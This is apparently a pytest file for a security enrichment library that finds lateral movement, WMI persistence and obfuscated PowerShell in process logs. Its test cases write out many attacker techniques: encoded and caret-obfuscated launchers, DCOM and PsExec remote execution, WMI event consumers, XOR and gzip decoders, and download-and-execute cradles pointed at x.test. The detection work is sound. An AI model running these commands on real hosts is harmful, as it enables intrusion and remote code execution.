"""Command lines of processes, other ways onto a host, and how scripts hide both; each by the rule it stands on."""

from __future__ import annotations

import base64
import gzip
from typing import Any

import pytest
from caltrop_enrich.enrich import Enricher, analyse

from .test_scripts import encoded, mismatches

CALL = "Invoke-WmiMethod -ComputerName srv01 -Class Win32_Process -Name Create -ArgumentList 'calc.exe'"
READ = {"remote_host": "srv01", "wmi_class": "Win32_Process", "wmi_method": "Create", "remote_command": "calc.exe"}
E = encoded(CALL)
GZIP = base64.b64encode(gzip.compress(CALL.encode())).decode()
Cases = dict[str, tuple[str, dict[str, Any]]]

LINES: Cases = {
    "encoded": (f"powershell -nop -w hidden -e {E}", READ),
    "whole path in quotes": (f'"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoP -sta -Enc {E}', READ),
    "no -Command": (f"powershell.exe {CALL}", READ),
    "a block": (f'powershell -Command "& {{{CALL}}}"', READ),
    "start in cmd": (f"%COMSPEC% /b /c start /b /min powershell.exe -nop -e {E}", READ),
    "carets": (f"c^m^d /c p^ow^ers^hell -e^nc {E}", READ),
    "variables of cmd": (f'cmd /c "set x=powershell&& call %x% -enc {E}"', READ),
    "delayed variables": (f'cmd /V:ON /C "set a=power&&set b=shell&&!a!!b! -enc {E}"', READ),
    "standard input": (f'cmd /c "echo {CALL}|powershell -noprofile -"', READ),
    "mshta": (f'mshta vbscript:CreateObject("WScript.Shell").Run("powershell -enc {E}",1,True)(Window.Close)', READ),
    "rundll32": (f"rundll32.exe SHELL32.DLL,ShellExec_RunDLL powershell -enc {E}", READ),
    "an unknown program": (f"conhost.exe --headless powershell -enc {E}", READ),
    "wmic": (
        'wmic /node:"H1","H2" /user:a /password:b process call create "cmd /c whoami"',
        {"wmi_cmdlet": "wmic", "remote_host": ["H1", "H2"], "wmi_class": "Win32_Process", "wmi_method": "create",
         "remote_command": "cmd /c whoami", "alternate_credentials": "true"},
    ),
    "wmic path": ("wmic /node:H1 path win32_service where name='x' call startservice", {"remote_host": "H1", "wmi_class": "win32_service", "wmi_method": "startservice", "remote_command": None}),
    "sc": ('sc \\\\H9 create abc binPath= "C:\\x.exe -a" start= auto', {"remote_host": "H9", "remote_access": "service", "service_name": "abc", "remote_command": "C:\\x.exe -a"}),
    "schtasks": ('schtasks /create /s H8 /u d\\a /p b /tn T1 /tr "cmd /c calc" /sc once', {"remote_host": "H8", "remote_access": "scheduled_task", "remote_task": "T1", "remote_command": "cmd /c calc", "alternate_credentials": "true"}),
    "schtasks here": ("schtasks /query", {"remote_host": None, "remote_access": None}),
    "psexec": ('PsExec64.exe -accepteula \\\\H5,H6 -u d\\a -p pw -s cmd.exe /c "echo a b"', {"remote_host": ["H5", "H6"], "remote_access": "psexec", "remote_command": 'cmd.exe /c "echo a b"'}),
    "winrs": ("winrs -r:http://H2:5985 -u:a -p:b cmd /c whoami", {"remote_host": "H2", "remote_access": "winrm", "remote_command": "cmd /c whoami"}),
    "net use": ("net use Z: \\\\H3\\c$ /user:a b", {"remote_host": "H3", "remote_access": "smb", "remote_share": "\\\\H3\\c$", "alternate_credentials": "true"}),
    "a share of this host": ("net use \\\\127.0.0.1\\c$", {"remote_access": None}),
    "nothing": ('"C:\\Program Files\\Foo\\foo.exe" -e bar', {"remote_host": None, "wmi_cmdlet": None, "wmi_unresolved": None}),
    "an encoded command that is none": ("powershell -enc %x%", {"wmi_unresolved": "-EncodedCommand %x%"}),
}  # fmt: skip

WAYS: Cases = {
    "Invoke-Command": ("Invoke-Command -ComputerName H1,H2 -ScriptBlock { hostname } -Credential $c", {"remote_host": ["H1", "H2"], "remote_access": "winrm", "remote_command": "hostname", "alternate_credentials": "true", "wmi_cmdlet": None}),
    "a session": ("$s = New-PSSession H1; icm -Session $s { iwmi -CN H2 }", {"remote_host": ["H1", "H2"], "remote_access": "winrm"}),
    "Enter-PSSession": ("etsn H1", {"remote_host": "H1", "remote_access": "winrm"}),
    "DCOM, MMC": ("$c=[activator]::CreateInstance([type]::GetTypeFromProgID('MMC20.Application','H9'));$c.Document.ActiveView.ExecuteShellCommand('cmd.exe',$null,'/c calc','7')", {"remote_host": "H9", "remote_access": "dcom", "dcom_object": "MMC20.Application", "remote_command": "cmd.exe /c calc"}),
    "DCOM, ShellWindows": ("[activator]::CreateInstance([type]::GetTypeFromCLSID('9BA05972-F6A8-11CF-A442-00A0C90A8F39','H9')).item().Document.Application.ShellExecute('cmd.exe','/c calc','c:\\',$null,0)", {"remote_host": "H9", "dcom_object": "ShellWindows", "remote_command": "cmd.exe /c calc"}),
    "scheduled task over CIM": ("$s=New-CimSession H1; $a=New-ScheduledTaskAction -Execute calc.exe -Argument '/x'; Register-ScheduledTask -TaskName T -Action $a -CimSession $s", {"remote_host": "H1", "remote_access": "scheduled_task", "remote_task": "T", "remote_command": "calc.exe /x"}),
    "sc.exe in a script": ("sc.exe \\\\H7 create s1 binPath= \"cmd /c calc\"", {"remote_host": "H7", "service_name": "s1", "remote_command": "cmd /c calc"}),
    "wmic in a script": ('wmic /node:H1,H2 process call create "calc.exe"', {"remote_host": ["H1", "H2"], "remote_command": "calc.exe"}),
    "a copy": ("Copy-Item a.exe -Destination \\\\H1\\c$\\a.exe", {"remote_host": "H1", "remote_access": "smb", "remote_share": "\\\\H1\\c$\\a.exe"}),
    "event consumer": ("Set-WmiInstance -ComputerName H1 -Namespace root\\subscription -Class CommandLineEventConsumer -Arguments @{Name='c1';CommandLineTemplate='calc.exe /x'}", {"remote_host": "H1", "wmi_consumer": "c1", "remote_command": "calc.exe /x"}),
    "event filter": ("New-CimInstance -Namespace root/subscription -ClassName __EventFilter -Property @{Name='f1';QueryLanguage='WQL';Query='select * from x'}", {"wmi_consumer": "f1", "wmi_filter": "select * from x"}),
    "script consumer by an instance": ("$i=([wmiclass]'\\\\H1\\root\\subscription:ActiveScriptEventConsumer').CreateInstance();$i.Name='c2';$i.ScriptText='x()';$i.Put()", {"remote_host": "H1", "wmi_consumer": "c2", "wmi_script": "x()"}),
    "Register-WmiEvent": ("Register-WmiEvent -Query 'select * from y' -ComputerName H1 -Action { iwmi -CN H2 }", {"wmi_cmdlet": ["Register-WmiEvent", "Invoke-WmiMethod"], "remote_host": ["H1", "H2"], "wmi_filter": "select * from y"}),
    "-as [wmiclass]": ("('\\\\H1\\root\\cimv2:Win32_Process' -as [wmiclass]).Create('calc')", {"remote_host": "H1", "wmi_method": "Create", "remote_command": "calc"}),
    "New-Object ManagementClass": ("(New-Object System.Management.ManagementClass('\\\\H1\\root\\cimv2','Win32_Process',$null)).InvokeMethod('Create','calc.exe')", {"remote_host": "H1", "remote_command": "calc.exe"}),
    "a class out of a list": ("(Get-WmiObject -List -ComputerName H1 | where {$_.Name -eq 'Win32_Process'}).Create('calc')", {"remote_host": "H1", "wmi_class": "Win32_Process", "remote_command": "calc"}),
    "an ordered table": ("icim Win32_Process Create ([ordered]@{CommandLine='calc'}) -CN H1", {"remote_host": "H1", "remote_command": "calc"}),
    "[wmi]": ("([wmi]'\\\\H3\\root\\cimv2:Win32_Service.Name=\"x\"').StartService()", {"wmi_cmdlet": "[wmi]", "remote_host": "H3", "wmi_class": "Win32_Service", "wmi_method": "StartService"}),
    "own function, by name and by position": ("function Go($t,[string]$c){ iwmi -CN $t Win32_Process create $c }; Go H1 -c calc.exe", {"remote_host": "H1", "remote_command": "calc.exe"}),
    "own function that nothing calls": ("function Go($t='H1'){ iwmi -CN $t Win32_Process create x }", {"remote_host": "H1", "remote_command": "x"}),
    "own function that decodes": ("function d($e,$k){$o='';foreach($n in $e){$o+=[char]($n -bxor $k)};return $o}; iex (d @(" + ",".join(str(ord(c) ^ 7) for c in CALL) + ") 7)", READ),
    "Start-Process with a list": (f"Start-Process -FilePath powershell.exe -ArgumentList '-nop','-w','hidden','-enc','{E}'", READ),
    "Start-Process with a text": (f'saps powershell "-nop -enc {E}"', READ),
    "ProcessStartInfo": (f"$p=New-Object Diagnostics.ProcessStartInfo;$p.FileName='powershell';$p.Arguments='-enc {E}';[Diagnostics.Process]::Start($p)", READ),
    "arguments in a splat": (f"$a='-nop','-enc','{E}'; & powershell @a", READ),
    "gzip": (f"iex (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,[Convert]::FromBase64String('{GZIP}'))),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()", {**READ, "decoded_command": CALL}),
    "matches without their values": ("([regex]::Matches('" + CALL[::-1].replace("'", "''") + "','.','RightToLeft')-Join '')|iex", READ),
    "download and run": ("IEX (New-Object Net.WebClient).DownloadString('http://'+'x.test/a')", {"download_url": "http://x.test/a", "executed_url": "http://x.test/a", "url": "http://x.test/a", "wmi_unresolved": None}),
    "download, joined with more": ("$d=(New-Object Net.WebClient).DownloadString('http://x.test/a'); iex ($d+';Invoke-It')", {"executed_url": "http://x.test/a"}),
    "download alone": ("(New-Object Net.WebClient).DownloadFile('http://x.test/a','b')", {"download_url": "http://x.test/a", "executed_url": None}),
    "iwr": ("iwr -useb http://x.test/a | iex", {"executed_url": "http://x.test/a"}),
    "unread, a variable": ("iex $x", {"wmi_unresolved": "Invoke-Expression $x"}),
    "unread, a secure string": ("iex ([Runtime.InteropServices.Marshal]::PtrToStringAuto($p))", {"wmi_unresolved": "Invoke-Expression ([Runtime.InteropServices.Marshal]::PtrToStringAuto($p))"}),
    "unread, the name": ("& $x -enc a; iwmi -CN H1", {"wmi_unresolved": "& $x", "remote_host": "H1"}),
    "unread, a block": ("& ([scriptblock]::Create($x))", {"wmi_unresolved": ["ScriptBlock $x", "& ([scriptblock]::Create($x))"]}),
}  # fmt: skip


@pytest.mark.parametrize("name", LINES)
@pytest.mark.parametrize("field", ["CommandLine", "process", "Processes.process", "Process_Command_Line"])
def test_command_line(name: str, field: str) -> None:
    line, expected = LINES[name]
    fields = Enricher(None, field).enrich({field: line})
    assert "enrichment_error" not in fields
    assert not mismatches(fields, expected), fields


@pytest.mark.parametrize("name", WAYS)
def test_way(name: str) -> None:
    script, expected = WAYS[name]
    result = analyse(script)
    assert not result.error
    assert not mismatches(result.fields, expected), result.fields


def test_process_events_in_every_rendering() -> None:
    line = f"powershell -enc {E}"
    for record in (
        {"CommandLine": line, "_raw": "x"},
        {"process": ["whoami", line]},
        {"Message": f"Process Create:\r\nRuleName: -\r\nCommandLine: {line}\r\nCurrentDirectory: C:\\\r\n"},
        {"Message": f"A new process has been created.\n\nProcess Information:\n\tProcess Command Line:\t{line}\n\nToken Elevation Type indicates x"},
        {"_raw": f"<Event><EventData><Data Name='CommandLine'>{line.replace('&', '&amp;')}</Data></EventData></Event>"},
    ):  # fmt: skip
        assert not mismatches(Enricher().enrich(record), READ), record


def test_a_script_goes_before_a_command_line() -> None:
    assert (
        Enricher().enrich({"ScriptBlockText": "iwmi -CN H1", "process": "powershell iwmi -CN H2"})["remote_host"]
        == "H1"
    )
